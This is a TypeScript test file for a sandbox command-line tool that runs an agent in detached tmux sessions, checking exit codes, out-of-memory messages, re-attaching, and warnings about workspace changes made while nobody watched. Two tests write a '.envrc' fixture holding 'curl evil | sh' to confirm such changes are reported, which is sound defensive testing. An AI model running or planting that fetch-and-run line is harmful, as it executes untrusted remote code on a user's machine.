// What becomes of a session that goes on when nobody looks at it, as whoever was attached is told.

import { existsSync } from 'node:fs'
import { PassThrough } from 'node:stream'
import { readdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { askAboutKept } from '../../../src/cli/session/ask-about-kept.js'
import type { PreparedSession } from '../../../src/cli/session/attach.js'
import { rejoin, runKept, startDetached } from '../../../src/cli/session/kept-run.js'
import { lookAndKeep } from '../../../src/cli/session/kept-before.js'
import { noteUnseenEnds, tellUnseenEnds } from '../../../src/cli/session/unseen-ends.js'
import { newSessionId } from '../../../src/engine/session/kept-session.js'
import { DiagnosticError, fail } from '../../../src/model/diagnostic.js'
import type { ResolvedSession } from '../../../src/model/desired.js'
import type { Engine } from '../../../src/model/engine.js'
import type { OpenSession } from '../../../src/model/risks.js'
import type { KeptSession } from '../../../src/model/session.js'
import type { ContainerSpec } from '../../../src/model/spec.js'
import { claude, machine } from '../../resolve/fixture.js'
import { silent } from '../../support/silent-engine.js'
import { person } from '../../support/approving.js'
import { containerSpec } from '../../support/examples.js'
import { liveContainer } from '../../ui/situations.js'

type Inside = {
  /** What is said of the session after it was shown; by whoever holds it. */
  readonly after: (holder: string) => string
  /** Of the command that shows it, or begins it with nobody who looks. */
  readonly code?: number
  readonly sessions?: readonly OpenSession[]
  readonly stderr?: string
  /** By what the engine says of the sandbox. */
  readonly isStarved?: boolean
}

const line = (state: string, code: string): string => `65a0b1c2d3\t${state}\t${code}\t1700000000\t-\t0\t-\t-\tclaude\n`

/** An engine with one session inside, and a person at a terminal; what was attached is in `shown`. */
async function meeting(inside: Inside, answers: Parameters<typeof person>[0] = []) {
  const { workspace, host } = machine()
  const shown: ResolvedSession[] = []
  const show = async (_: string, session: ResolvedSession): Promise<number> => {
    shown.push(session)
    return Promise.resolve(inside.code ?? 0)
  }
  const engine = {
    attach: show,
    pipe: async (id: string, command: ResolvedSession) => {
      return { exitCode: await show(id, command), stderr: inside.stderr ?? '' }
    },
    run: async () => {
      const stdout = inside.after(shown.at(-1)?.argv[5] ?? '')
      return Promise.resolve({ exitCode: 0, stdout, stderr: '' })
    },
    sessions: async () => Promise.resolve(inside.sessions ?? []),
    inspect: async () => Promise.resolve({ State: { OOMKilled: inside.isStarved === true } }),
  } as unknown as Engine
  const spec = { ...containerSpec, workspace: { path: workspace, readonly: false } }
  const agent = { ...claude, login: null, seeds: [] }
  const prepared: PreparedSession = {
    ...{ agent, containerSpec: spec, host: await host(), credentials: 'none', autonomy: 'full', hasHostLogin: false },
    resolve: () => ({ argv: ['/usr/bin/claude', '-p'], workingFolder: workspace, env: { KEY: 'secret-1' } }),
  }
  const me = person(answers)
  const output = Object.assign(new PassThrough(), { isTTY: true })
  const invocation = Object.create(me.invocation, { output: { value: output } }) as typeof me.invocation
  const place = { engine, containerId: 'c1', sandboxId: 'web-123456' }
  return { invocation, place, prepared, shown, heard: me.heard, printed: () => String(output.read() ?? '') }
}

async function left(inside: Inside) {
  const { invocation, place, prepared, shown, heard, printed } = await meeting(inside)
  const code = await runKept(invocation, place, prepared)
  return { code, heard: heard(), printed: printed(), shown }
}

test('one that ended leaves its last screen and its exit code', async () => {
  const screen = '\nfirst\n  \u001b[1mbold\u001b[m \u001b]0;title\u0007\u000elqk\u000f\n\n\u001b[m \n'
  const { code, printed, heard } = await left({ after: (holder) => `${line('ended', '5')}${holder}\n${screen}` })
  expect(code).toBe(5)
  expect(printed).toBe('\nfirst\n  \u001b[1mbold\u001b[m \\e]0;title\\x07┌─┐\u001b[m\n')
  expect(heard).toBe('')
})

test('one that was left goes on, and the way back is said', async () => {
  const { code, printed, heard } = await left({ after: (holder) => `${line('running', '-')}${holder}\n` })
  expect({ code, printed }).toEqual({ code: 0, printed: '' })
  expect(heard).toBe('Detached; claude goes on. Back to it: sbx attach web-123456\n')
})

test.each([
  ['running', '-', 1],
  ['ended', '0', 0],
])('what one that is %s is compared with in its end is kept until then', async (state, exitCode, count) => {
  const { invocation, place, prepared } = await meeting({ after: (holder) => `${line(state, exitCode)}${holder}\n` })
  await runKept(invocation, place, prepared)
  expect(await readdir(join(prepared.host.stateFolder, 'sessions', place.sandboxId))).toHaveLength(count)
})

test('whoever is thrown out by another terminal is told so', async () => {
  const { code, heard } = await left({ after: () => `${line('running', '-')}somebody-else\n` })
  expect(code).toBe(0)
  expect(heard).toMatch(/^Another terminal has taken claude over\./)
})

test.each([
  [1, 125],
  [137, 137],
])('one that was ended from outside has no exit code: %i is %i', async (shown, code) => {
  const ended = await left({ after: () => `${line('lost', '-')}-\n`, code: shown })
  expect(ended.code).toBe(code)
  expect(ended.heard).toContain('claude was ended from outside')
})

const starved = (state: string, code: string): string => line(state, code).replace('-\tclaude', 'starved\tclaude')

test.each([
  ['lost', '-', 125],
  ['ended', '137', 137],
])('one that is %s where there was no memory left is told the key to raise', async (state, code, given) => {
  const ended = await left({ after: () => `${starved(state, code)}-\n`, code: 1 })
  expect(ended.code).toBe(given)
  expect(ended.heard).toContain('the kernel has ended something in this sandbox for want of memory')
  expect(ended.heard).toContain('raise resources.memory')
  expect((await left({ after: () => `${line(state, code)}-\n` })).heard).not.toContain('memory')
})

test('one that could not be kept has ended with what showed it', async () => {
  expect(await left({ after: () => '', code: 9 })).toMatchObject({ code: 9, heard: '', printed: '' })
})

test('where the sandbox was stopped under it, that is said', async () => {
  const after = (): never => {
    throw new DiagnosticError([
      { severity: 'error', code: 'engine/not-running', summary: 'The sandbox is not running' },
    ])
  }
  const { code, heard } = await left({ after, code: 1 })
  expect(code).toBe(125)
  expect(heard).toContain('the sandbox was stopped')
  expect(heard).not.toContain('memory')
  expect((await left({ after, code: 137, isStarved: true })).heard).toContain('raise resources.memory')
})

test('one that nobody looks at prints its id, and is given what the agent is', async () => {
  const { invocation, place, prepared, shown, heard, printed } = await meeting({ after: () => '' })
  expect(await startDetached(invocation, place, prepared)).toBe(0)
  expect(printed()).toMatch(/^[0-9a-f]{10}\n$/)
  expect(heard()).toBe('claude goes on by itself. To look at it: sbx attach web-123456\n')
  expect(shown[0]).toMatchObject({ env: { KEY: 'secret-1', SBX_ARGUMENT_1: '-p' } })
  expect(shown[0]?.argv.slice(5)).toEqual(['', '80', '24', ''])
})

test.each([
  [120, 'session/not-kept', 'there is no tmux in this image'],
  [1, 'session/not-started', 'no space left'],
])('one that cannot begin by itself says why: exit code %i', async (code, expected, why) => {
  const { invocation, place, prepared } = await meeting({ after: () => '', code, stderr: `${why}\n` })
  await expect(startDetached(invocation, place, prepared)).rejects.toMatchObject({
    diagnostics: [{ code: expected, detail: expect.stringContaining(why) as unknown }],
  })
})

test('one whose tmux never answers is told, and not waited for', async () => {
  const { invocation, place, prepared } = await meeting({ after: () => '' })
  Object.assign(place.engine, silent)
  await expect(startDetached(invocation, place, prepared, 20)).rejects.toMatchObject({
    kind: 'failed',
    diagnostics: [{ code: 'session/not-started', detail: expect.stringContaining('has not answered') as unknown }],
  })
})

const running: KeptSession = {
  ...{ id: '65a0b1c2d3', exitCode: null, startedAt: 0, endedAt: null, program: 'claude' },
  ...{ state: 'running', isAttached: false, quietSince: null, mood: null },
}

test('going on with one hands nothing of its environment on, and one that is over is not attached to', async () => {
  const here = await meeting({ after: (holder) => `${line('running', '-')}${holder}\n` })
  const { agent, host, containerSpec: spec } = here.prepared
  const rejoined = { agent, host, containerSpec: spec }
  // Whoever attaches has another terminal, which comes behind the id.
  const holders = await rejoin(here.invocation, here.place, { ...rejoined, session: running })
  expect(holders).toBe(0)
  expect(Object.keys(here.shown[0]?.env ?? {})).toEqual(expect.arrayContaining(['TERM', 'LANG']))
  expect(JSON.stringify(here.shown)).not.toContain('secret-1')

  const over = await meeting({ after: () => `${line('ended', '3')}-\nbye\n` })
  expect(await rejoin(over.invocation, over.place, { ...rejoined, session: { ...running, state: 'ended' } })).toBe(3)
  expect(over.printed()).toBe('bye\u001b[m\n')
  expect(over.shown).toEqual([])
})

test('what it changed since it began is told to whoever meets its end', async () => {
  const { invocation, place, prepared, heard } = await meeting({ after: () => `${line('ended', '0')}-\n` })
  const { agent, host, containerSpec: spec } = prepared
  await startDetached(invocation, place, prepared)
  const kept = join(host.stateFolder, 'sessions', 'web-123456')
  const [name = ''] = await readdir(kept)
  await writeFile(join(spec.workspace.path, '.envrc'), 'curl evil | sh\n')
  const session = { ...running, id: name.replace('.json', ''), state: 'ended' } as const
  await rejoin(invocation, place, { agent, host, containerSpec: spec, session })
  expect(heard()).toMatch(/\.envrc/)
  expect(await readdir(kept)).toEqual([])
})

/** One that began by itself long ago, and what it left; with what the sandbox says of it by now. */
async function unseen(states: (id: string) => string) {
  const ids: string[] = []
  const here = await meeting({ after: () => ids.map(states).join('') })
  const { host, containerSpec: spec } = here.prepared
  for (const at of [1_700_000_000_000, 1_700_000_100_000]) {
    const sessionId = newSessionId(at)
    ids.push(sessionId)
    await lookAndKeep(here.invocation, host, spec, { sandboxId: 'web-123456', sessionId })
  }
  await writeFile(join(spec.workspace.path, '.envrc'), 'curl evil | sh\n')
  const container = { id: 'c1', state: 'running' } as const
  const tellNow = async (quiet = false): Promise<string> => {
    const { invocation, place } = here
    const asked = quiet ? { ...invocation, options: { ...invocation.options, quiet } } : invocation
    await tellUnseenEnds(asked, place.engine, host, { sandboxId: 'web-123456', spec, container })
    return here.heard()
  }
  return { ...here, ids, spec, tellNow, kept: () => readdir(join(host.stateFolder, 'sessions', 'web-123456')) }
}

const stateLine = (id: string, state: string): string => line(state, '0').replace('65a0b1c2d3', id)

test.each(['ended', 'lost', 'unknown'])(
  'what one that ended when nobody looked changed is told once: %s',
  async (state) => {
    const { ids, tellNow, kept } = await unseen((id) => (state === 'unknown' ? '' : stateLine(id, state)))
    expect(await tellNow(true)).toBe('')
    const first = await tellNow()
    expect(first).toContain(`since session ${ids[0] ?? ''} and 1 more began, which ended when nobody looked`)
    expect(first).toMatch(/\.envrc/)
    expect(await kept()).toEqual([])
    expect(await tellNow()).toBe(first)
  },
)

test('of one that runs nothing is told, and of a sandbox that does not say it stays to be told', async () => {
  const goesOn = await unseen((id) => stateLine(id, 'running'))
  expect(await goesOn.tellNow()).toBe('')
  expect(await goesOn.kept()).toHaveLength(2)
  const silent = await unseen(() => fail('engine/command-timeout', 'A command in the sandbox does not end', {}))
  expect(await silent.tellNow()).toMatch(/\.envrc/)
  expect(await silent.kept()).toHaveLength(2)
})

test('the list says where there is something to be told, and asks nobody for it', async () => {
  const { invocation, prepared, ids, heard, spec } = await unseen(() => '')
  const { host } = prepared
  await lookAndKeep(invocation, host, spec, { sandboxId: 'web-123456', sessionId: newSessionId() })
  const sandbox = { ...liveContainer.sandbox, id: 'web-123456' }
  const listed = { ...liveContainer, id: 'c1', sandbox, spec }
  const session = { ...running, id: ids[0] ?? '' }
  await noteUnseenEnds(invocation, host, [listed], new Map([['c1', [session, { ...session, id: ids[1] ?? '' }]]]))
  expect(heard()).toBe('')
  await noteUnseenEnds(invocation, host, [listed], new Map([['c1', [session]]]))
  await noteUnseenEnds(invocation, host, [listed], new Map())
  const told = 'What changed here that this machine would run: sbx logs web-123456'
  expect(heard().trim().split('\n')).toEqual([
    `note: Session ${ids[1] ?? ''} of web-123456 ended when nobody looked. ${told}`,
    // The one that was about to begin does not, where nothing runs any more.
    `note: 3 sessions of web-123456 ended when nobody looked. ${told}`,
  ])
})

test.each<readonly [string, Partial<ContainerSpec['workspace']>]>([
  ['a clone', { mode: 'clone' }],
  ['a workspace that it cannot write', { readonly: true }],
])('of %s nothing on this machine is looked at', async (_, how) => {
  const { invocation, place, prepared } = await meeting({ after: () => '' })
  const spec = { ...prepared.containerSpec, workspace: { ...prepared.containerSpec.workspace, ...how } }
  await startDetached(invocation, place, { ...prepared, containerSpec: spec })
  await runKept(invocation, place, { ...prepared, containerSpec: spec })
  expect(existsSync(join(prepared.host.stateFolder, 'sessions'))).toBe(false)
})

const container = { id: 'c1', sandbox: { displayName: 'web' } } as Parameters<typeof askAboutKept>[2]
const open = { command: 'claude', terminal: null, seconds: 1, id: '65a0b1c2d3' }
const two = `${line('running', '-')}${line('running', '-').replace('65a0b1c2d3', '65a0b1c2d4')}`

test.each([
  ['a', line('running', '-'), '65a0b1c2d3'],
  ['s', line('running', '-'), 'new'],
  ['', line('running', '-'), null],
  ['2', two, '65a0b1c2d4'],
  ['S', two, 'new'],
  ['3', two, null],
  ['x', two, null],
])('asked what to do beside one that is open, %j', async (answer, states, expected) => {
  const { invocation, place, heard } = await meeting({ after: () => states, sessions: [open] }, [
    [/nothing: $/, answer],
  ])
  const chosen = await askAboutKept(invocation, place.engine, container)
  expect(typeof chosen === 'object' ? (chosen?.id ?? null) : chosen).toBe(expected)
  expect(heard()).toMatch(
    states === two
      ? /2 sessions of web are open:\n  1  65a0b1c2d3  claude, .*\n  2  65a0b1c2d4  /
      : /Session 65a0b1c2d3 of web is open: claude, since/,
  )
})

test('nobody is asked where none is open', async () => {
  const { invocation, place } = await meeting({
    after: () => line('ended', '0'),
    sessions: [{ ...open, command: 'sh' }],
  })
  expect(await askAboutKept(invocation, place.engine, container)).toBe('new')
  const other = await meeting({ after: () => '', sessions: [{ command: 'make', terminal: null, seconds: 1 }] })
  expect(await askAboutKept(other.invocation, other.place.engine, container)).toBe('new')
})
